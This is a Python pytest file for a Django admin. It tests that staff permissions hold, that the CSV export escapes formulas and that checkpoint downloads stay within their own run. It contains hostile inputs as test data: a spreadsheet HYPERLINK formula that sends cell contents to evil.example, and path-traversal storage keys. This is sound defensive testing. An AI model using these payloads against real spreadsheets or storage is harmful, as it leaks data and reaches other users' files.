"""The admin does only what a staff member's permissions allow: view-only staff run no
waitlist action; the CSV export escapes formulas; nobody edits a run's config or a
checkpoint's keys; a download never presigns a key outside the checkpoint's own run."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission
from django.core import mail
from django.utils import timezone

from corpora.services import project_create
from runs.models import Checkpoint, Run
from waitlist.models import Invite, WaitlistEntry

pytestmark = pytest.mark.django_db

CHANGELIST = "/admin/waitlist/waitlistentry/"


def staff_with(django_user_model, email: str, *codenames: str):
    user = django_user_model.objects.create_user(email=email, password="pw-staff-1", is_staff=True)
    user.user_permissions.set(Permission.objects.filter(codename__in=codenames))
    return user


@pytest.fixture
def viewer(django_user_model):
    """Staff who may look at the waitlist and invites, not change them."""
    return staff_with(django_user_model, "viewer@sleuth.dev", "view_waitlistentry", "view_invite")


@pytest.fixture
def entry():
    return WaitlistEntry.objects.create(email="ann@acme.com", company="Acme")


def admin_action(client, action, *entries):
    return client.post(
        CHANGELIST, {"action": action, "_selected_action": [e.pk for e in entries]}, follow=True
    )


def test_view_only_staff_cannot_send_invites(client, viewer, entry):
    client.force_login(viewer)

    admin_action(client, "send_beta_invite", entry)

    assert not Invite.objects.exists() and mail.outbox == []


def test_view_only_staff_cannot_revoke_invites(client, viewer, entry):
    invite = Invite.objects.create(
        entry=entry, token_hash="x" * 64, sent_at=timezone.now(), expires_at=timezone.now()
    )
    client.force_login(viewer)

    admin_action(client, "revoke_invite", entry)

    invite.refresh_from_db()
    assert invite.revoked_at is None


def test_view_only_staff_cannot_export_the_waitlist(client, viewer, entry):
    client.force_login(viewer)

    response = admin_action(client, "export_csv", entry)

    assert response["Content-Type"].startswith("text/html")
    assert "ann@acme.com,Acme" not in response.content.decode()


def test_staff_allowed_to_change_invites_can_send_them(client, django_user_model, entry):
    inviter = staff_with(
        django_user_model,
        "inviter@sleuth.dev",
        "view_waitlistentry",
        "add_invite",
        "change_invite",
    )
    client.force_login(inviter)

    admin_action(client, "send_beta_invite", entry)

    assert [m.to for m in mail.outbox] == [["ann@acme.com"]]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_csv_export_escapes_cells_a_spreadsheet_would_run(client, charlie, start):
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    entry = WaitlistEntry.objects.create(email="eve@evil.example", company=formula, use_case="ok")
    client.force_login(charlie)

    response = admin_action(client, "export_csv", entry)

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][1] == "'" + formula
    assert rows[1][2] == "ok"


@pytest.fixture
def run(alice):
    project = project_create(owner=alice, name="Filings")
    return Run.objects.create(
        project=project,
        created_by=alice,
        name="Done",
        status=Run.Status.SUCCEEDED,
        config={"judge": {"name": "operator"}},
        artifacts_prefix=f"projects/{project.pk}/runs/x",
    )


def test_staff_cannot_change_a_runs_config_in_the_admin(client, charlie, run):
    client.force_login(charlie)
    url = f"/admin/runs/run/{run.pk}/change/"

    page = client.get(url).content.decode()
    client.post(url, {"name": run.name, "config": '{"judge": {"base_url": "https://evil"}}'})

    assert 'name="config"' not in page
    run.refresh_from_db()
    assert run.config == {"judge": {"name": "operator"}}


def test_staff_cannot_change_a_checkpoints_archive_key_in_the_admin(client, charlie, run, bob):
    key = f"projects/{run.project_id}/runs/{run.pk}/published/done.tar.gz"
    checkpoint = Checkpoint.objects.create(run=run, step=1, s3_prefix="p", archive_key=key)
    client.force_login(charlie)
    url = f"/admin/runs/checkpoint/{checkpoint.pk}/change/"

    page = client.get(url).content.decode()
    client.post(url, {"run": run.pk, "step": 1, "archive_key": "projects/99/runs/1/other.tar.gz"})

    assert 'name="archive_key"' not in page
    checkpoint.refresh_from_db()
    assert checkpoint.archive_key == key


def test_staff_cannot_repoint_a_projects_judge_at_their_server(client, charlie, run):
    project = run.project
    project.judge_base_url = "https://judge.alice.example/v1"
    project.save()
    client.force_login(charlie)
    url = f"/admin/corpora/project/{project.pk}/change/"

    client.post(url, {"name": "Filings", "judge_base_url": "https://evil.example/v1"})

    project.refresh_from_db()
    assert project.judge_base_url == "https://judge.alice.example/v1"


def test_a_download_refuses_an_archive_key_outside_its_own_run(client, alice, run, bob):
    others = project_create(owner=bob, name="Bob's")
    key = f"projects/{others.pk}/runs/1/published/bob.tar.gz"
    checkpoint = Checkpoint.objects.create(run=run, step=1, s3_prefix="p", archive_key=key)
    client.force_login(alice)

    response = client.get(f"/checkpoints/{checkpoint.pk}/download/")

    assert response.status_code == 404


@pytest.mark.parametrize(
    "tail", ["published/../../../../99/runs/1/x.tar.gz", "published//x.tar.gz"]
)
def test_a_download_refuses_a_key_that_climbs_out_of_its_run(client, alice, run, tail):
    key = f"projects/{run.project_id}/runs/{run.pk}/{tail}"
    checkpoint = Checkpoint.objects.create(run=run, step=1, s3_prefix="p", archive_key=key)
    client.force_login(alice)

    assert client.get(f"/checkpoints/{checkpoint.pk}/download/").status_code == 404


def test_a_download_of_the_runs_own_archive_is_presigned(client, alice, run):
    key = f"projects/{run.project_id}/runs/{run.pk}/published/done.tar.gz"
    checkpoint = Checkpoint.objects.create(run=run, step=1, s3_prefix="p", archive_key=key)
    client.force_login(alice)

    response = client.get(f"/checkpoints/{checkpoint.pk}/download/")

    assert response.status_code == 302 and key in response["Location"]


def editable_fields(client, url: str) -> set[str]:
    """The names of the inputs a change form offers."""
    import re

    page = client.get(url).content.decode()
    return set(re.findall(r'<(?:input|select|textarea)[^>]* name="([^"]+)"', page))


def test_staff_who_may_change_cannot_edit_storage_keys_pipeline_state_or_revive_a_token(
    client, django_user_model
):
    from corpora.models import Document
    from serving.models import ApiToken
    from serving.services import api_token_create

    boss = django_user_model.objects.create_superuser(email="boss@sleuth.dev", password="pw-1")
    owner = django_user_model.objects.create_user(email="ann@acme.com", password="pw-2")
    project = project_create(owner=owner, name="Acme")
    document = Document.objects.create(
        project=project,
        name="a.pdf",
        kind="pdf",
        content_type="application/pdf",
        size=1,
        sha256="0" * 64,
        s3_key="documents/a.pdf",
        sections_key="sections/a.json",
    )
    token, _ = api_token_create(user=owner, name="ci")
    client.force_login(boss)

    project_form = editable_fields(client, f"/admin/corpora/project/{project.pk}/change/")
    document_form = editable_fields(client, f"/admin/corpora/document/{document.pk}/change/")
    token_form = editable_fields(client, f"/admin/serving/apitoken/{token.pk}/change/")

    assert "name" in project_form and "index_prefix" not in project_form
    assert "entity" in document_form
    assert not {"sections_key", "s3_key", "status", "parse_deadline"} & document_form
    assert "revoked_at_0" not in token_form and "revoked_at" not in token_form
    # Revoking is the one way to touch a token, through the owner's own service.
    client.post(
        "/admin/serving/apitoken/",
        {"action": "revoke_tokens", "_selected_action": [token.pk]},
        follow=True,
    )
    token.refresh_from_db()
    assert token.revoked_at is not None
    assert client.get("/admin/serving/apitoken/add/").status_code == 403
    assert ApiToken.objects.count() == 1
